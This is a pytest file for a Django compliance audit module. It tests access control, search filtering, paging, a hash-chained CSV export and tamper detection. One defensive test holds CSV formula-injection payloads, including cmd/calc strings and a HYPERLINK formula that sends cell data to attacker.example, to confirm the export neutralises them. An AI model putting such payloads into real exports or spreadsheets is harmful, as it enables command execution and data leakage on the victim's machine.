"""The compliance pages: who may see them, the audit search and its filters, paging, the CSV export (which an
outside verifier can recompute the chain from), verifying the chain (also a tampered one), a case's printable
history; none makes a query per row."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from datetime import datetime, timedelta
from decimal import Decimal
from typing import Any

import pgtrigger
import pytest
from django.contrib.auth.models import User
from django.db import transaction
from django.test import Client
from django.utils import timezone

from accounts.models import MarginAccount
from core.audit import AuditEntry, audit_record_many
from core.export import COLUMNS, TEXT_COLUMNS
from core.models import AuditEvent
from core.roles import CLIENT, COMPLIANCE, CREDIT_OFFICER, SENIOR_CREDIT_OFFICER
from restructuring.models import Approval, Case, CaseState, FeasibilityReport, Installment, Proposal
from restructuring.selectors.compliance import PAGE_SIZE
from tests.audit_export_verifier import verifier
from tests.factories.accounts import MarginAccountFactory
from tests.web.helpers import signed_in, staff_user

pytestmark = [
    pytest.mark.django_db,
]


@pytest.fixture
def reviewer() -> User:
    return staff_user("rita", COMPLIANCE)


@pytest.fixture
def compliance(reviewer: User) -> Client:
    return signed_in(reviewer)


def record(*entries: AuditEntry) -> list[AuditEvent]:
    with transaction.atomic():
        return audit_record_many(entries)


def entry(action: str, object_type: str, object_id: int, **fields: Any) -> AuditEntry:
    if "actor" not in fields:
        fields.setdefault("system_actor", "sweep")
    return AuditEntry(action=action, object_type=object_type, object_id=object_id, **fields)


def _case(account: MarginAccount, *, opened_at: datetime | None = None) -> Case:
    return Case.objects.create(account=account, opened_at=opened_at or timezone.now())


def _proposal(case: Case, name: str, terms: dict[str, Any]) -> Proposal:
    return Proposal.objects.create(
        case=case, source="officer", source_key=name, name=name, terms=terms, created_at=timezone.now()
    )


def _shown(response: Any) -> list[int]:
    return [row.event.sequence for row in response.context["page"].rows]


# ------------------------------------------------------------------------------------------ permissions

GETS = ["/audit/", "/audit/export.csv", "/audit/cases/{case}/"]


@pytest.mark.parametrize("url", [*GETS, "/audit/verify/"])
def test_anonymous_is_sent_to_sign_in(client: Client, url: str) -> None:
    case = _case(MarginAccountFactory.create())
    response = (client.post if url.endswith("verify/") else client.get)(url.format(case=case.pk))
    assert response.status_code == 302
    assert response["Location"].startswith("/login/?next=")


@pytest.mark.parametrize("role", [CLIENT, CREDIT_OFFICER, SENIOR_CREDIT_OFFICER])
def test_clients_and_officers_may_not_read_the_trail(role: str) -> None:
    case = _case(MarginAccountFactory.create())
    browser = signed_in(staff_user("someone", role))
    for url in GETS:
        assert browser.get(url.format(case=case.pk)).status_code == 403, url
    assert browser.post("/audit/verify/").status_code == 403


def test_compliance_reads_every_page_and_changes_nothing(compliance: Client) -> None:
    case = _case(MarginAccountFactory.create())
    record(entry("case.open", "restructuring.case", case.pk, account_id=case.account_id))
    for url in GETS:
        assert compliance.get(url.format(case=case.pk)).status_code == 200, url
    # the read pages take no POST; verifying takes no GET
    assert compliance.post("/audit/").status_code == 405
    assert compliance.post("/audit/export.csv").status_code == 405
    assert compliance.get("/audit/verify/").status_code == 405
    assert compliance.post(f"/audit/cases/{case.pk}/").status_code == 405


def test_verifying_needs_the_csrf_token(compliance: Client) -> None:
    # given a browser that enforces CSRF, with the reviewer's session
    strict = Client(enforce_csrf_checks=True)
    strict.cookies = compliance.cookies

    # when it posts without the token, then with the one the page's form carries
    refused = strict.post("/audit/verify/")
    page = strict.get("/audit/")
    token = page.context["csrf_token"]
    accepted = strict.post("/audit/verify/", {"csrfmiddlewaretoken": str(token)})

    assert refused.status_code == 403
    assert f'name="csrfmiddlewaretoken" value="{token}"' in page.content.decode()
    assert accepted.status_code == 200


# ------------------------------------------------------------------------------------------------ search


def test_the_search_filters_by_account_actor_action_and_time(compliance: Client, reviewer: User) -> None:
    # given events on two accounts, by a user and by system tasks, at two times
    officer = User.objects.create_user("olga")
    first, second = MarginAccountFactory.create(code="ACC-ONE"), MarginAccountFactory.create(code="ACC-TWO")
    e1, e2 = record(
        entry("case.open", "accounts.marginaccount", first.pk, account_id=first.pk),
        entry("case.margin_call", "accounts.marginaccount", first.pk, account_id=first.pk, system_actor="deadlines"),
    )
    between = timezone.now()
    e3, e4 = record(
        entry("proposal.approve", "accounts.marginaccount", second.pk, account_id=second.pk, actor=officer),
        entry("ruleset.publish", "accounts.marginaccount", 9, payload={"version": 2}),
    )

    def search(**filters: Any) -> list[int]:
        response = compliance.get("/audit/", filters)
        assert response.status_code == 200, response.context["form"].errors
        return _shown(response)

    # then newest first, and each filter narrows
    assert search() == [e4.sequence, e3.sequence, e2.sequence, e1.sequence]
    assert search(account="ACC-ONE") == [e2.sequence, e1.sequence]
    assert search(account=str(second.pk)) == [e3.sequence]  # by id too
    assert search(actor="olga") == [e3.sequence]
    assert search(actor="DEADLINES") == [e2.sequence]  # a system actor, any case
    assert search(actor="sweep") == [e4.sequence, e1.sequence]
    assert search(action="case.") == [e2.sequence, e1.sequence]  # the start of an action
    assert search(action="case.open") == [e1.sequence]
    assert search(since=between.isoformat()) == [e4.sequence, e3.sequence]
    assert search(until=between.isoformat()) == [e2.sequence, e1.sequence]
    assert search(account="ACC-ONE", actor="sweep") == [e1.sequence]
    assert search(account="nobody") == []


def test_a_bad_filter_is_named_and_nothing_is_listed(compliance: Client) -> None:
    now = timezone.now()
    response = compliance.get("/audit/", {"since": now.isoformat(), "until": (now - timedelta(hours=1)).isoformat()})
    assert response.status_code == 200
    assert response.context["page"] is None
    assert "must be after From" in response.content.decode()
    assert compliance.get("/audit/", {"case": "x"}).context["page"] is None


def test_the_search_by_case_finds_its_events_its_proposals_and_its_account_while_open(compliance: Client) -> None:
    # given a case with a proposal, a report, an account event while it was open, and others' events
    account = MarginAccountFactory.create()
    other = _case(MarginAccountFactory.create())
    before = record(entry("account.import", "accounts.marginaccount", account.pk, account_id=account.pk))
    case = _case(account)
    proposal = _proposal(case, "extend", {"term_months": 6})
    events = record(
        entry("case.open", "restructuring.case", case.pk, account_id=account.pk),
        entry("proposal.draft", "restructuring.proposal", proposal.pk),  # no account: found by the proposal
        entry("topup.declare", "accounts.marginaccount", account.pk, account_id=account.pk),
        entry("case.open", "restructuring.case", other.pk, account_id=other.account_id),
    )

    response = compliance.get("/audit/", {"case": case.pk})

    assert _shown(response) == [e.sequence for e in reversed(events[:3])]
    assert before[0].sequence not in _shown(response)  # before the case opened


def test_paging_walks_the_trail_by_sequence(compliance: Client) -> None:
    # given two and a half pages of events
    events = record(*[entry("case.open", "accounts.marginaccount", n) for n in range(PAGE_SIZE * 2 + 5)])
    sequences = [e.sequence for e in reversed(events)]

    first = compliance.get("/audit/", {"actor": "sweep"})
    second = compliance.get("/audit/", {"actor": "sweep", "before": first.context["page"].older})
    third = compliance.get("/audit/", {"actor": "sweep", "before": second.context["page"].older})
    back = compliance.get("/audit/", {"actor": "sweep", "after": third.context["page"].newer})

    assert _shown(first) == sequences[:PAGE_SIZE]
    assert first.context["page"].newer is None
    assert _shown(second) == sequences[PAGE_SIZE : 2 * PAGE_SIZE]
    assert _shown(third) == sequences[2 * PAGE_SIZE :]
    assert third.context["page"].older is None
    assert _shown(back) == _shown(second)
    assert "actor=sweep&amp;before=" in first.content.decode()  # the links keep the filters


def test_each_payload_is_shown_readably(compliance: Client, reviewer: User) -> None:
    record(
        entry(
            "proposal.approve",
            "accounts.marginaccount",
            1,
            actor=reviewer,
            reason="within the limit",
            payload={"amount": Decimal("1250.50"), "terms": {"term_months": 6, "rate_annual": "0.07"}, "note": None},
        )
    )

    page = compliance.get("/audit/").content.decode()

    assert '<th scope="row">amount</th><td>1250.50</td>' in page
    assert '<th scope="row">note</th><td>null</td>' in page
    assert "<pre>{\n  &quot;rate_annual&quot;: &quot;0.07&quot;,\n  &quot;term_months&quot;: 6\n}</pre>" in page
    assert "within the limit" in page


@pytest.mark.parametrize("events", [3, PAGE_SIZE + 10])
def test_the_search_page_makes_the_same_queries_whatever_it_shows(
    compliance: Client, reviewer: User, django_assert_num_queries: Any, events: int
) -> None:
    account = MarginAccountFactory.create(code="ACC-Q")
    case = _case(account)
    record(
        *[
            entry("case.open", "restructuring.case", case.pk, account_id=account.pk, actor=reviewer)
            if n % 2
            else entry("case.open", "restructuring.case", case.pk, account_id=account.pk)
            for n in range(events)
        ]
    )

    # session, user, device, groups, two permission queries, the events, the session saved (idle expiry: three
    # statements in a test's transaction)
    with django_assert_num_queries(10):
        assert compliance.get("/audit/").status_code == 200
    # a case: its row, then the events; an account code: its id, then the events
    with django_assert_num_queries(11):
        assert len(_shown(compliance.get("/audit/", {"case": case.pk}))) == min(events, PAGE_SIZE)
    with django_assert_num_queries(11):
        assert len(_shown(compliance.get("/audit/", {"account": "ACC-Q"}))) == min(events, PAGE_SIZE)
    # an older page: one EXISTS more, for the link to the newer ones
    with django_assert_num_queries(11):
        assert compliance.get("/audit/", {"before": events}).status_code == 200


# ------------------------------------------------------------------------------------------------ export


def _csv(response: Any) -> list[dict[str, str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_the_export_is_the_filtered_trail_with_every_hashed_field(compliance: Client, reviewer: User) -> None:
    # given events with a user, a system actor, a multi-line reason and a nested payload
    account = MarginAccountFactory.create(code="ACC-CSV")
    events = record(
        entry(
            "proposal.reject",
            "accounts.marginaccount",
            account.pk,
            account_id=account.pk,
            actor=reviewer,
            from_state="pending_approval",
            to_state="draft",
            reason='too long, "really"\nsee notes',
            payload={"amount": Decimal("10.50"), "terms": {"months": 6}},
        ),
        entry("case.open", "accounts.marginaccount", account.pk, account_id=account.pk),
        entry("sweep.run", "accounts.marginaccount", 1),  # another account: filtered out
    )

    rows = _csv(compliance.get("/audit/export.csv", {"account": "ACC-CSV"}))

    # then oldest first, the columns named, the values exact (text as JSON strings, docs/audit-export.md)
    assert list(rows[0]) == list(COLUMNS)
    assert [int(r["sequence"]) for r in rows] == [events[0].sequence, events[1].sequence]
    first = {k: json.loads(v) if k in TEXT_COLUMNS else v for k, v in rows[0].items()}
    assert (first["actor"], first["actor_id"], first["system_actor"]) == ("rita", str(reviewer.pk), "")
    assert (first["action"], first["object_type"], first["object_id"]) == (
        "proposal.reject",
        "accounts.marginaccount",
        str(account.pk),
    )
    assert (first["from_state"], first["to_state"], first["reason"]) == (
        "pending_approval",
        "draft",
        'too long, "really"\nsee notes',
    )
    assert json.loads(first["payload"]) == {"amount": "10.50", "terms": {"months": 6}}
    assert (rows[1]["actor"], rows[1]["actor_id"], rows[1]["system_actor"]) == ("null", "", '"sweep"')
    # and an outside verifier (docs/verify_audit_export.py, no code of the app) recomputes every hash from the file
    for row in rows:
        assert verifier.event_hash(verifier.hashed_document(row)) == row["hash"]
    assert verifier.hashed_document(rows[0])["reason"] == 'too long, "really"\nsee notes'
    assert rows[1]["previous_hash"] == rows[0]["hash"]
    # which is the hash the application computed
    assert [row["hash"] for row in rows] == [events[0].hash, events[1].hash]


# What a spreadsheet evaluates when a cell starts with it (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TYPED = [
    "=cmd|' /C calc'!A0",  # a client's decline reason
    "-2+3+cmd|' /C calc'!A0",  # an officer's liquidation reason
    "+1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://attacker.example/?"&A1)',
]


def test_no_exported_cell_can_run_in_a_spreadsheet(compliance: Client, tmp_path: Any) -> None:
    # given events whose every text a person or a client chose starts a formula, and an officer named like one
    officer = staff_user("-2+3", CREDIT_OFFICER)
    account = MarginAccountFactory.create(code="ACC-FORMULA")
    typed = [
        entry("proposal.decline", "restructuring.proposal", n, account_id=account.pk, reason=reason)
        for n, reason in enumerate(TYPED)
    ]
    events = record(
        *typed,
        entry(
            "case.liquidate",
            "restructuring.case",
            1,
            account_id=account.pk,
            actor=officer,
            from_state="=1+1",
            to_state="@1",
            reason="-2+3+cmd|' /C calc'!A0",
            payload={"reason": "=cmd|' /C calc'!A0"},
        ),
        entry("operation.sweep", "accounts.sweep", 1, account_id=account.pk, system_actor="=command:x@y"),
    )

    # when exported
    response: Any = compliance.get("/audit/export.csv", {"account": "ACC-FORMULA"})
    text = b"".join(response.streaming_content).decode()

    # then no cell, as a spreadsheet's CSV reader splits them, starts a formula
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + len(events)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (row, cell)
    # and the evidence is unchanged: decoded, each text is what was typed, and every hash recomputes from the file
    exported = list(csv.DictReader(io.StringIO(text)))
    assert [json.loads(row["reason"]) for row in exported[: len(TYPED)]] == TYPED
    assert json.loads(exported[len(TYPED)]["actor"]) == "-2+3"
    checked, problems = verifier.verify(io.StringIO(text))
    assert (checked, problems) == (len(events), [])

    # and the documented command says so, and catches an edited reason
    path = tmp_path / "audit.csv"
    path.write_text(text, encoding="utf-8")
    result = subprocess.run([sys.executable, str(verifier.__file__), str(path)], capture_output=True, text=True)
    assert (result.returncode, result.stdout.strip()) == (
        0,
        f"{len(events)} events checked: every hash matches its event",
    )
    path.write_text(text.replace("calc", "notepad", 1), encoding="utf-8")
    result = subprocess.run([sys.executable, str(verifier.__file__), str(path)], capture_output=True, text=True)
    assert result.returncode == 1
    assert f"event {events[0].sequence}: its hash does not match its contents" in result.stdout


@pytest.mark.parametrize("events", [2, 300])
def test_the_export_streams_in_one_query(compliance: Client, django_assert_num_queries: Any, events: int) -> None:
    record(*[entry("case.open", "accounts.marginaccount", n, account_id=n) for n in range(events)])

    # session, user, device, groups, two permission queries, the events, the session saved (three statements)
    with django_assert_num_queries(10):
        response = compliance.get("/audit/export.csv")
        rows = _csv(response)

    assert len(rows) == events


def test_an_export_with_a_bad_filter_is_refused(compliance: Client) -> None:
    response = compliance.get("/audit/export.csv", {"case": "abc"})
    assert response.status_code == 400
    assert b"case" in response.content


# ------------------------------------------------------------------------------------------------ verify


def test_verifying_a_sound_chain(compliance: Client, django_assert_max_num_queries: Any) -> None:
    record(*[entry("case.open", "accounts.marginaccount", n) for n in range(5)])

    with django_assert_max_num_queries(11):  # the request's ten, one batch of events
        response = compliance.post("/audit/verify/")

    assert response.status_code == 200
    result = response.context["result"]
    assert (result.ok, result.checked, result.first_broken_sequence) == (True, 5, None)
    assert "The chain is intact." in response.content.decode()
    assert "5 events checked" in response.content.decode()


def test_verifying_a_tampered_chain_names_the_first_broken_link(compliance: Client) -> None:
    # given a chain whose third event was edited with the append-only guard off
    events = record(*[entry("case.open", "accounts.marginaccount", n) for n in range(5)])
    with pgtrigger.ignore("core.AuditEvent:append_only"):
        AuditEvent.objects.filter(sequence=events[2].sequence).update(reason="nothing to see")

    # when verified from the page (htmx swaps the result in)
    response = compliance.post("/audit/verify/", headers={"HX-Request": "true"})

    # then
    page = response.content.decode()
    assert response.status_code == 200
    assert "<html" not in page  # the fragment only
    assert f"The chain is broken at event #{events[2].sequence}." in page
    assert f"event #{events[2].sequence}: hash does not match its contents" in page
    assert "2 events before it checked sound." in page
    assert f"?before={events[2].sequence + 1}#event-{events[2].sequence}" in page


def test_verifying_finds_a_deleted_event(compliance: Client) -> None:
    events = record(*[entry("case.open", "accounts.marginaccount", n) for n in range(4)])
    with pgtrigger.ignore("core.AuditEvent:append_only"):
        AuditEvent.objects.filter(sequence=events[1].sequence).delete()

    result = compliance.post("/audit/verify/").context["result"]

    assert (result.ok, result.checked, result.first_broken_sequence) == (False, 1, events[2].sequence)
    assert "missing" in result.problem


# ---------------------------------------------------------------------------------------------- history


def _history_case(reviewer: User, *, proposals: int = 2, extra_events: int = 0) -> tuple[Case, list[AuditEvent]]:
    """A case with proposals (one approved), a feasibility report's event, and events of others around it."""
    account = MarginAccountFactory.create(code="ACC-HIST")
    elsewhere = _case(MarginAccountFactory.create())
    record(entry("account.import", "accounts.marginaccount", account.pk, account_id=account.pk))  # before
    case = _case(account)
    made = [
        _proposal(case, f"package-{n}", {"term_months": 6 + n, "collateral_to_add": "300.00", "reduce": [[1, "0.5"]]})
        for n in range(proposals)
    ]
    Approval.objects.create(
        proposal=made[0],
        approver=reviewer,
        version=1,
        terms_hash="a" * 64,
        limit=Decimal("50000"),
        created_at=timezone.now(),
    )
    events = record(
        entry("case.open", "restructuring.case", case.pk, account_id=account.pk, to_state="warning"),
        entry("feasibility.report", "restructuring.feasibilityreport", 10_000 + case.pk),  # not this case's report
        *[
            entry("proposal.draft", "restructuring.proposal", p.pk, actor=reviewer, payload={"terms": p.terms})
            for p in made
        ],
        entry("topup.declare", "accounts.marginaccount", account.pk, account_id=account.pk, payload={"amount": "5"}),
        *[entry("case.note", "restructuring.case", case.pk, reason=f"note {n}") for n in range(extra_events)],
        entry("case.open", "restructuring.case", elsewhere.pk, account_id=elsewhere.account_id),
    )
    others = ("restructuring.case", elsewhere.pk)  # by type and id: a proposal may share the other case's id
    mine = [e for e in events if e.action != "feasibility.report" and (e.object_type, e.object_id) != others]
    return case, mine


def test_a_case_history_is_one_printable_page_of_everything(compliance: Client, reviewer: User) -> None:
    case, mine = _history_case(reviewer)

    response = compliance.get(f"/audit/cases/{case.pk}/")

    page = response.content.decode()
    assert response.status_code == 200
    assert [row.event.sequence for row in response.context["rows"]] == [e.sequence for e in mine]  # oldest first
    assert f"Case {case.pk} on account ACC-HIST: full history" in page
    assert page.count('class="card"') >= 3
    assert "package-0" in page
    assert "package-1" in page
    assert '<th scope="row">term_months</th><td>6</td>' in page  # the terms, readably
    assert "rita" in page
    assert "(superseded terms)" in page
    assert "<details" not in page  # payloads printed open
    assert '<button type="button" data-print>Print</button>' in page  # wired by static/workout/print.js
    assert "workout/print.js" in page


def test_a_case_history_includes_its_feasibility_reports_events(compliance: Client, reviewer: User) -> None:
    case, _mine = _history_case(reviewer, proposals=1)
    report = FeasibilityReport.objects.create(
        case=case,
        key="k",
        trigger="margin_call",
        created_at=timezone.now(),
        as_of=timezone.now(),
        model_version="test",
        market_seed=1,
        case_seed=1,
        debt=Decimal(750),
        recovery_expected=Decimal(700),
        recovery_p5=Decimal(600),
        expected_loss=Decimal(50),
        loss_given_default=Decimal("0.1"),
        liquidation_value=Decimal(700),
    )
    (event,) = record(entry("feasibility.report", "restructuring.feasibilityreport", report.pk))

    rows = compliance.get(f"/audit/cases/{case.pk}/").context["rows"]

    assert rows[-1].event.sequence == event.sequence


def test_a_closed_case_keeps_its_installments_and_what_was_recorded_as_it_closed(compliance: Client) -> None:
    # given a case closed five minutes ago, a repayment recorded now on its installment, a top-up on its account
    account = MarginAccountFactory.create()
    now = timezone.now()
    case = Case.objects.create(
        account=account,
        opened_at=now - timedelta(days=30),
        state=CaseState.CLOSED,
        closed_at=now - timedelta(minutes=5),
    )
    installment = Installment.objects.create(
        proposal=_proposal(case, "extend", {"term_months": 6}),
        number=1,
        due=now.date(),
        principal=Decimal(100),
        interest=Decimal(1),
        arrears=Decimal(0),
        total=Decimal(101),
        balance=Decimal(0),
    )
    repayment, top_up = record(
        entry("installment.pay", "restructuring.installment", installment.pk, account_id=account.pk),
        entry("topup.declare", "accounts.marginaccount", account.pk, account_id=account.pk),
    )

    def history() -> list[int]:
        return [row.event.sequence for row in compliance.get(f"/audit/cases/{case.pk}/").context["rows"]]

    # then the repayment is the case's, the top-up five minutes after the close is not...
    assert history() == [repayment.sequence]
    # ...but one recorded as the case closed (its own append's clock, a little later) is
    Case.objects.filter(pk=case.pk).update(closed_at=top_up.created_at - timedelta(seconds=2))
    assert history() == [repayment.sequence, top_up.sequence]


def test_an_unknown_case_is_not_found(compliance: Client) -> None:
    assert compliance.get("/audit/cases/999999/").status_code == 404


@pytest.mark.parametrize(("proposals", "extra_events"), [(1, 0), (6, 30)])
def test_a_case_history_makes_the_same_queries_whatever_it_holds(
    compliance: Client, reviewer: User, django_assert_num_queries: Any, proposals: int, extra_events: int
) -> None:
    case, mine = _history_case(reviewer, proposals=proposals, extra_events=extra_events)

    # session, user, device, groups, two permission queries; the case, its proposals, their approvals, the events;
    # the session saved (three statements)
    with django_assert_num_queries(13):
        response = compliance.get(f"/audit/cases/{case.pk}/")

    assert len(response.context["rows"]) == len(mine)
